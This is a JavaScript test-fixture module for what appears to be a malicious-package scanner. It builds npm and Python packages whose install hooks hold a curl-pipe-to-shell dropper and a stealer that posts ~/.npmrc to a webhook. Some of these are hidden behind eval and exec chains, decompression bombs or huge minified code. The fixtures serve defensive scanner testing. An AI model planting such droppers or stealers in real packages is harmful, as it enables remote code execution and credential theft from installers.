// Hostile source code of issue #16 ("Source"): big minified files, deep nesting, eval/exec
// chains, strings doubled in loops, decompression bombs inside decoded payloads, recursion
// and endless loops. Each case is a package directory (path → content), the analysis
// budget it is scanned with (small budgets keep the tests frugal; the same shapes at full
// size are in bigSourceCases), and what the scan must say: never clean, never a crash.
// Nothing generated is malware: the payloads are inert one-liners naming example.invalid.
import { deflateSync } from "node:zlib";

const MB = 1024 * 1024;
const DROPPER_JS = 'require("child_process").exec("curl -s http://dropper.example.invalid/x | sh");\n';
const STEALER_JS = 'const t = require("fs").readFileSync(require("os").homedir() + "/.npmrc", "utf8");\nfetch("https://webhook.site/0000-example", { method: "POST", body: t });\n';
const DROPPER_PY = 'import os\nos.system("curl -s http://dropper.example.invalid/x | sh")\n';
const PKG_INFO = "Metadata-Version: 2.1\nName: hostile-fixture\nVersion: 1.0.0\n";
const postinstall = (command) => JSON.stringify({ name: "hostile-fixture", version: "1.0.0", scripts: { postinstall: command } });
const npmInstall = (code) => ({ "package.json": postinstall("node install.js"), "install.js": code });
const pySetup = (code) => ({ "PKG-INFO": PKG_INFO, "setup.py": code });

/** The dropper found in that file, or the file reported as not analysed at install: anything but clean. */
const notClean = (file) => ({ anyOf: [["install-time-network", file], ["unanalysed-code", file, "high"]] });

/** Dense minified code (≈ 1 token per 2 bytes), like a bundle's body. */
export function minified(bytes) {
  const parts = [];
  let size = 0;
  for (let i = 0; size < bytes; i++) {
    const part = `var a${i}=function(b,c){return b*${i % 97}+c.x[${i % 7}]||d(b,"s${i}")};`;
    parts.push(part);
    size += part.length;
  }
  return parts.join("");
}

/** Dense Python code (a module of small functions). */
export function densePython(bytes) {
  const parts = [];
  let size = 0;
  for (let i = 0; size < bytes; i++) {
    const part = `def f${i}(a, b):\n    return g(a, "s${i}") + b[${i % 7}] * ${i}\n`;
    parts.push(part);
    size += part.length;
  }
  return parts.join("");
}

/** `count` files of minified code under `dir`, `bytes` each (`head` first: a URL literal makes a file worth analysing). */
function bundles(count, bytes, dir, head = "") {
  return Object.fromEntries(Array.from({ length: count }, (_, i) => [`${dir}/bundle${i}.js`, head + minified(bytes)]));
}

/** install.js requires `count` bundles of `bytes` each, then lib/dropper.js: what the package budget leaves for the dropper. */
function packageOfBundles(count, bytes) {
  const requires = Array.from({ length: count }, (_, i) => `require("./lib/bundle${i}.js");`).join("\n");
  return { ...npmInstall(`${requires}\nrequire("./lib/dropper.js");\n`), ...bundles(count, bytes, "lib"), "lib/dropper.js": DROPPER_JS };
}

/** A chain of `depth` evals, each running the previous variable: linear in size (string literals nested would double their escapes). */
function jsEvalChain(depth, code) {
  const lines = [`var c0 = ${JSON.stringify(code)};`];
  for (let i = 1; i <= depth; i++) lines.push(`var c${i} = "eval(c${i - 1})";`);
  return `${lines.join("\n")}\neval(c${depth});\n`;
}

function pyExecChain(depth, code) {
  const lines = [`c0 = ${JSON.stringify(code)}`];
  for (let i = 1; i <= depth; i++) lines.push(`c${i} = "exec(c${i - 1})"`);
  return `${lines.join("\n")}\nexec(c${depth})\n`;
}

/** zlib of the payload followed by `padding` bytes of spaces: a few KB that inflate past every cap. */
function bomb(payload, padding) {
  return deflateSync(Buffer.concat([Buffer.from(payload), Buffer.alloc(padding, 0x20)]), { level: 9 }).toString("base64");
}

export function sourceCases() {
  return [
    // ---- big files: analysed within the budget, or reported ----------------------------
    {
      id: "npm-minified-over-budget",
      about: "install.js: the dropper at the top of 400 KB of minified code, over a 50 000-token budget",
      files: npmInstall(DROPPER_JS + minified(400_000)),
      budget: { fileTokens: 50_000 },
      expect: { rule: ["unanalysed-code", "install.js", "high"] },
    },
    {
      id: "npm-stealer-over-budget",
      about: "install.js: reads ~/.npmrc and posts it to webhook.site, before 400 KB of minified code over a 50 000-token budget (its text is still read: evidence)",
      files: npmInstall(`${STEALER_JS}${minified(400_000)}`),
      budget: { fileTokens: 50_000 },
      expect: { rule: ["unanalysed-code", "install.js", "high"] },
    },
    {
      id: "npm-bundle-over-budget",
      about: "twin: install.js of 400 KB of minified code over a 50 000-token budget, naming nothing of note (no evidence)",
      files: npmInstall(minified(400_000)),
      budget: { fileTokens: 50_000 },
      expect: { rule: ["unanalysed-code", "install.js", "high"] },
    },
    {
      id: "npm-minified-within-budget",
      about: "twin: the dropper in the middle of 400 KB of minified code, within the default budget",
      files: npmInstall(minified(200_000) + DROPPER_JS + minified(200_000)),
      expect: { rule: ["install-time-network", "install.js"], noRule: "unanalysed-code" },
    },
    {
      id: "npm-inline-source-map",
      about: "install.js: the dropper and a 2 MB inline source map (cut before parsing: no token, no memory)",
      files: npmInstall(`${DROPPER_JS}//# sourceMappingURL=data:application/json;base64,${"QUFB".repeat(MB / 2)}\n`),
      budget: { fileTokens: 1_000 },
      expect: { rule: ["install-time-network", "install.js"], noRule: "unanalysed-code" },
    },
    {
      id: "npm-big-string-literal",
      about: "install.js: a 2 MB string literal (one token) before the dropper",
      files: npmInstall(`var blob = "${"ab".repeat(MB)}";\n${DROPPER_JS}`),
      budget: { fileTokens: 1_000 },
      expect: { rule: ["install-time-network", "install.js"], noRule: "unanalysed-code" },
    },
    {
      id: "npm-data-array-over-budget",
      about: "install.js: a 200 000-number array (a token each: data arrays can be decoded into code, so they are charged)",
      files: npmInstall(`var table = [${Array.from({ length: 200_000 }, (_, i) => i % 251).join(",")}];\n${DROPPER_JS}`),
      budget: { fileTokens: 50_000 },
      expect: { rule: ["unanalysed-code", "install.js", "high"] },
    },
    {
      id: "py-dense-over-budget",
      about: "setup.py: the dropper at the top of 400 KB of dense code, over a 50 000-token budget",
      files: pySetup(DROPPER_PY + densePython(400_000)),
      budget: { fileTokens: 50_000 },
      expect: { rule: ["unanalysed-code", "setup.py", "high"] },
    },
    {
      id: "py-big-string-within-budget",
      about: "twin: setup.py with a 2 MB string literal (one token) before the dropper",
      files: pySetup(`BLOB = "${"ab".repeat(MB)}"\n${DROPPER_PY}`),
      budget: { fileTokens: 1_000 },
      expect: { rule: ["install-time-network", "setup.py"], noRule: "unanalysed-code" },
    },
    {
      id: "py-escapes-over-budget",
      about: "setup.py: a string of 100 000 \\x escapes (a syntax node each) is charged, not free",
      files: pySetup(`BLOB = "${"\\x41".repeat(100_000)}"\n${DROPPER_PY}`),
      budget: { fileTokens: 50_000 },
      expect: { rule: ["unanalysed-code", "setup.py", "high"] },
    },
    // ---- a package of many files: the trees kept for the package are budgeted --------------
    {
      id: "npm-package-tokens-over-budget",
      about: "install.js requires 200 KB of minified code, then the dropper's file, over a 60 000-token package budget",
      files: packageOfBundles(1, 200_000),
      budget: { packageTokens: 60_000 },
      expect: { rule: ["unanalysed-code", "lib/bundle0.js", "high"], anyOf: [["install-time-network", "lib/dropper.js"]] },
    },
    {
      id: "npm-package-tokens-other-files",
      about: "a clean install script and entry, 6 bundles nothing runs over a 60 000-token package budget: the package's own files chose which were left out, so each is a medium finding",
      files: { "package.json": JSON.stringify({ name: "hostile-fixture", version: "1.0.0", main: "index.js" }), "index.js": "module.exports = 1;\n", ...bundles(6, 40_000, "data", 'var home = "https://example.invalid/";\n') },
      budget: { packageTokens: 60_000 },
      expect: { rule: ["unanalysed-code", "data/bundle5.js", "medium"] },
    },
    {
      id: "npm-package-tokens-crowded-stealer",
      about: "filler files nothing runs use up a 60 000-token package budget before a padded stealer nothing reaches (sorted last): it is not clean",
      files: { "package.json": JSON.stringify({ name: "hostile-fixture", version: "1.0.0", main: "index.js" }), "index.js": "module.exports = 1;\n", ...bundles(3, 40_000, "lib", "// eval\n"), "lib/zz.js": `${STEALER_JS}function unused() {\n${minified(50_000)}\n}\n` },
      budget: { packageTokens: 60_000 },
      expect: { rule: ["unanalysed-code", "lib/zz.js", "medium"] },
    },
    // ---- nesting ------------------------------------------------------------------------
    {
      id: "npm-parens-50k",
      about: "install.js: 50 000 nested parentheses before the dropper",
      files: npmInstall(`var x = ${"(".repeat(50_000)}1${")".repeat(50_000)};\n${DROPPER_JS}`),
      expect: { rule: ["unanalysed-code", "install.js", "high"] },
    },
    {
      id: "npm-arrays-50k",
      about: "install.js: 50 000 nested arrays before the dropper",
      files: npmInstall(`var x = ${"[".repeat(50_000)}${"]".repeat(50_000)};\n${DROPPER_JS}`),
      expect: { rule: ["unanalysed-code", "install.js", "high"] },
    },
    {
      id: "py-parens-50k",
      about: "setup.py: 50 000 nested parentheses before the dropper",
      files: pySetup(`x = ${"(".repeat(50_000)}1${")".repeat(50_000)}\n${DROPPER_PY}`),
      expect: notClean("setup.py"),
    },
    {
      id: "py-lists-50k",
      about: "setup.py: 50 000 nested lists before the dropper",
      files: pySetup(`x = ${"[".repeat(50_000)}${"]".repeat(50_000)}\n${DROPPER_PY}`),
      expect: notClean("setup.py"),
    },
    // ---- eval / exec layers ----------------------------------------------------------------
    {
      id: "npm-eval-chain-1000",
      about: "install.js: the dropper behind 1000 evals, each running the previous one (past the layers peeled)",
      files: npmInstall(jsEvalChain(1000, DROPPER_JS.trim())),
      expect: { rule: ["unanalysed-code", "install.js", "high"] },
    },
    {
      id: "py-exec-chain-1000",
      about: "setup.py: the dropper behind 1000 execs, each running the previous one (past the layers peeled)",
      files: pySetup(pyExecChain(1000, DROPPER_PY.replace("\n", "; ").trim())),
      expect: { rule: ["unanalysed-code", "setup.py", "high"] },
    },
    // ---- strings doubled in loops, endless loops, recursion ---------------------------------
    {
      id: "npm-string-doubling-endless",
      about: "install.js: a string doubled in an endless loop, then the dropper",
      files: npmInstall(`var s = "ab"; while (true) s += s;\n${DROPPER_JS}`),
      expect: notClean("install.js"),
    },
    {
      id: "npm-string-repeat-huge",
      about: "install.js: \"ab\".repeat(2 ** 40) and a doubling for-loop, then the dropper",
      files: npmInstall(`var t = "ab".repeat(2 ** 40); var s = "ab"; for (var i = 0; i < 64; i++) s = s.concat(s);\n${DROPPER_JS}`),
      expect: notClean("install.js"),
    },
    {
      id: "npm-recursion",
      about: "install.js: unbounded recursion, then the dropper",
      files: npmInstall(`function f(n) { return f(n + 1) + f(n + 2); }\nf(0);\n${DROPPER_JS}`),
      expect: notClean("install.js"),
    },
    {
      id: "py-string-doubling",
      about: "setup.py: a string doubled 64 times in a for loop and in an endless loop, then the dropper",
      files: pySetup(`s = "ab"\nfor i in range(64):\n    s = s + s\nt = "ab"\nwhile True:\n    t += t\n${DROPPER_PY}`),
      expect: notClean("setup.py"),
    },
    {
      id: "py-recursion",
      about: "setup.py: unbounded recursion, then the dropper",
      files: pySetup(`def f(n):\n    return f(n + 1) + f(n + 2)\nf(0)\n${DROPPER_PY}`),
      expect: notClean("setup.py"),
    },
    // ---- decompression bombs inside decoded payloads -------------------------------------
    {
      id: "py-zlib-bomb",
      about: "setup.py: exec(zlib.decompress(base64.b64decode(…))) of the dropper padded to 256 MB",
      files: pySetup(`import base64, zlib\nexec(zlib.decompress(base64.b64decode("${bomb(DROPPER_PY, 256 * MB)}")))\n`),
      expect: notClean("setup.py"),
    },
    {
      id: "npm-zlib-bomb",
      about: "install.js: eval(zlib.inflateSync(Buffer.from(…, 'base64')).toString()) of the dropper padded to 256 MB",
      files: npmInstall(`const zlib = require("zlib");\neval(zlib.inflateSync(Buffer.from("${bomb(DROPPER_JS, 256 * MB)}", "base64")).toString());\n`),
      expect: notClean("install.js"),
    },
  ];
}

/** The same shapes at full size (50 MB files): slow, so their test runs only with EXFILSCAN_BIG_TESTS=1; contents are built when read. */
export function bigSourceCases() {
  return [
    {
      id: "npm-minified-50mb",
      about: "install.js: 50 MB of minified code with the dropper in the middle (default budget)",
      get files() {
        return npmInstall(minified(25 * MB) + DROPPER_JS + minified(25 * MB));
      },
      expect: notClean("install.js"),
    },
    {
      id: "npm-source-map-50mb",
      about: "install.js: the dropper, 1 MB of minified code and a 49 MB inline source map",
      get files() {
        return npmInstall(`${DROPPER_JS}${minified(MB)}\n//# sourceMappingURL=data:application/json;base64,${"QUFB".repeat(49 * MB / 4)}\n`);
      },
      expect: { rule: ["install-time-network", "install.js"], noRule: "unanalysed-code" },
    },
    {
      id: "npm-string-50mb",
      about: "install.js: a 50 MB string literal, then the dropper",
      get files() {
        return npmInstall(`var blob = "${"ab".repeat(25 * MB)}";\n${DROPPER_JS}`);
      },
      expect: { rule: ["install-time-network", "install.js"], noRule: "unanalysed-code" },
    },
    {
      id: "npm-package-100mb",
      about: "the dropper in install.js beside 40 bundles of 2.5 MB nothing runs (≈ 50 M tokens, 3 times the default package budget): install code is parsed first, the bundles that do not fit are listed",
      get files() {
        return { ...npmInstall(DROPPER_JS), ...bundles(40, 2.5 * MB, "lib", 'var home = "https://example.invalid/";\n') };
      },
      expect: { rule: ["install-time-network", "install.js"], noRule: "unanalysed-code" },
    },
    {
      id: "py-dense-50mb",
      about: "setup.py: 50 MB of dense Python with the dropper in the middle",
      get files() {
        return pySetup(densePython(25 * MB) + DROPPER_PY + densePython(25 * MB));
      },
      expect: notClean("setup.py"),
    },
  ];
}
